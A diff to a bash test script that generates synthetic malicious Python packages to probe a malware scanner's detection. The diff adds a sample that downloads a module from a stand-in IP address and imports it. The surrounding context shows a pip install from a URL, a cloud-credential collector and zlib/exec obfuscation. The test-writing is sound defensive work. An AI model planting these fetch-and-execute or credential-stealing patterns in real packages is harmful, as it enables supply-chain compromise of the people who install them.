@@ -1,5 +1,5 @@
 #!/usr/bin/env bash
-# Generalisation probe: 57 small synthetic packages, each using one malware technique of
+# Generalisation probe: 58 small synthetic packages, each using one malware technique of
 # recent campaigns (written from public reports, not taken from the corpus), scanned with
 # default settings. Prints one line per technique: verdict, score, rules. The packages are
 # written to a temporary folder and scanned as unpacked folders; nothing is run.
@@ -187,7 +187,7 @@ subprocess.check_call([sys.executable, '-m', 'pip', 'install', '--quiet', 'https
 EOF
 # 2024-2025 PyPI campaigns: cloud keys as boto3 resolved them (fabrice), a Solana keypair,
 # a hooked wallet library sending the keys it is given, Hyperion- and bytes-list-style
-# obfuscation, a hidden child interpreter, a VBScript dropper.
+# obfuscation, a hidden child interpreter, a VBScript dropper, a downloaded module imported.
 mk awscreds <<'EOF'
 import boto3, requests, threading
 def _collect():
@@ -236,6 +236,13 @@ from builtins import *
 __obfuscator__ = 'Hyperion'
 _ = lambda __ : __import__('zlib').decompress(__[::-1])
 exec((_)(b'\x9c\xcb\x00\x01\x02'))
+EOF
+mk dlimport <<'EOF'
+import sys, os, tempfile, urllib.request
+d = tempfile.mkdtemp()
+urllib.request.urlretrieve('http://203.0.113.77/u.py', os.path.join(d, 'updater.py'))
+sys.path.insert(0, d)
+import updater
 EOF
 # Techniques of later campaigns, beyond a package's own `__init__.py`: an in-tree build
 # backend, .pth and sitecustomize start-up hooks, code in tests/ that setup.py calls,
